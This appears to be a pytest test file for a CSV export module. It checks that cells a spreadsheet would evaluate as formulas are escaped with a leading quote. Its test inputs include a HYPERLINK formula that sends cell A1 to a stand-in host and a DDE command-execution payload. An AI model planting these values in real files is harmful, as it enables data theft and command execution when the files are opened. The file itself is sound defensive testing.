import csv

import pytest

from kinecor.io.export.cohort import write_csv
from kinecor.io.files.cells import csv_cells

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Doe")'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_a_spreadsheet_would_compute_is_shown_as_text(text):
    assert csv_cells([text, 3]) == [f"'{text}", 3]


@pytest.mark.parametrize("cell", ["-5.2", "+3", "-1e-3", "-", "", "Doe-Smith", -5.2, None, "-inf"])
def test_numbers_and_other_texts_stay(cell):
    assert csv_cells([cell]) == [cell]


def test_a_name_in_a_file_is_no_formula_in_a_table(tmp_path):
    write_csv(tmp_path / "cohort.csv", ("patient", "EF"), [(FORMULA, -3.5)])
    with (tmp_path / "cohort.csv").open(newline="") as table:
        assert list(csv.reader(table))[1] == [f"'{FORMULA}", "-3.5"]
